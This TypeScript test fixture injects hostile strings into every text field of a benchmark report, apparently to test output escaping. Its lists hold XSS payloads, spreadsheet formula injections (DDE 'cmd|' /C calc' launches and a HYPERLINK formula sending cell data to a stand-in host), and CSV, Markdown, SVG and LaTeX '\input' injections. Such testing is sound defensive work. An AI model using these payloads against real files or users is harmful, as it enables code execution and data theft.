/** The fixture with every text a scenario's author could write replaced by an attempt to inject markup. */
import type { Result, Statement } from "../../scenarios/common/types.js";
import { fixtureResult } from "./fixture.js";

export const ATTACKS = [
  "</script><img src=x onerror=alert(1)>",
  '"><svg onload=alert(2)>',
  "'><iframe srcdoc='<script>alert(3)</script>'>",
  "<!--<script>alert(4)//",
  "]]></title></desc></style><script>alert(5)</script>",
  "&lt;img src=x onerror=alert(6)&gt; \u0007\uffff",
];

/** A statement about the same lines under their new names. */
function restated(statement: Statement, renamed: (line: string) => string): Statement {
  if (statement.kind === "order") return { ...statement, lines: statement.lines.map(renamed) };
  const own = { ...statement, line: renamed(statement.line) };
  return "other" in own ? { ...own, other: renamed(own.other) } : own;
}

/** What is dangerous in files that other programs open: formulas, markup, and pieces that end what they stand in. */
export const FILE_ATTACKS = [
  ...ATTACKS,
  '=HYPERLINK("http://x.y?"&A1,"more")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\uff1d1+1",
  '","=1+1","',
  '"\r\n=1+1,2\r\n"',
  "| a | b |\n|---|---|\n# head\n![x](http://x.y/z.png) [y](http://x.y) @name #12",
  "```\n</summary></details><img src=x onerror=alert(7)>\n- item",
  "</text><image href='http://x.y'/><a href='http://x.y'>z</a>",
  "x\nmachine: { cores: 64 }\n# '\"",
  "}, note = {\\input{x}},\n}",
];

/** The fixture in which `text` stands at the end of every free text, or where `joined` puts it. */
export function withTexts(
  text: (place: number) => string,
  joined = (start: string, end: string) => `${start} ${end}`,
): Result {
  const result = fixtureResult();
  const { scenario } = result;
  let place = 0;
  const next = (start: string) => joined(start, text(place++));
  const rename = new Map(scenario.lines.map((line) => [line.id, next(line.id)]));
  for (const line of scenario.lines) {
    line.id = rename.get(line.id)!;
    line.label = next(line.label);
    line.parameters = { [next("threads")]: next("cores") };
  }
  for (const point of result.points) {
    point.line = rename.get(point.line)!;
    if (point.reason) point.reason = next(point.reason);
  }
  const renamed = (line: string) => rename.get(line)!;
  result.findings.growth = result.findings.growth.map((growth) => ({
    ...growth,
    line: renamed(growth.line),
    reason: growth.reason && next(growth.reason),
  }));
  result.findings.knees = result.findings.knees.map((knee) => ({ ...knee, line: renamed(knee.line) }));
  const claimed = new Map(scenario.claims.map((claim) => [claim.id, next(claim.id)]));
  scenario.claims = scenario.claims.map((claim) => ({
    ...claim,
    id: claimed.get(claim.id)!,
    says: next(claim.says),
    source: next(claim.source),
    comment: claim.comment && next(claim.comment),
    statement: restated(claim.statement, renamed),
  }));
  result.findings.claims = result.findings.claims.map((verdict) => ({
    ...verdict,
    id: claimed.get(verdict.id)!,
    statement: next(verdict.statement),
    because: next(verdict.because),
    evidence: verdict.evidence.map((evidence) => ({ ...evidence, of: next(evidence.of) })),
    assumedCosts: verdict.assumedCosts.map(next),
  }));
  scenario.name = next(scenario.name);
  scenario.question = next(scenario.question);
  scenario.description = next(scenario.description);
  scenario.seed = next(scenario.seed);
  scenario.profile.name = next(scenario.profile.name);
  scenario.profile.title = next(scenario.profile.title);
  scenario.profile.description = next(scenario.profile.description);
  const costs = Object.entries(scenario.profile.costs).map(([name, cost]) => [
    next(name),
    { ...cost, source: next(cost.source) },
  ]);
  scenario.profile.costs = Object.fromEntries(costs);
  result.mechanisms = result.mechanisms.map((note) => ({
    ...note,
    title: next(note.title),
    summary: next(note.summary),
    realThing: next(note.realThing),
    model: next(note.model),
    law: next(note.law),
    signals: {
      ...note.signals,
      start: next(note.signals.start),
      done: next(note.signals.done),
      memory: next(note.signals.memory),
    },
    divergence: note.divergence.map(next),
    sources: note.sources.map((source) => ({
      ...source,
      text: next(source.text),
      url: source.url && next(source.url),
    })),
  }));
  result.command = next(result.command);
  result.answer = next(result.answer);
  result.version = next(result.version);
  result.engine = { node: next("v20"), v8: next("11"), platform: next("linux") };
  return result;
}
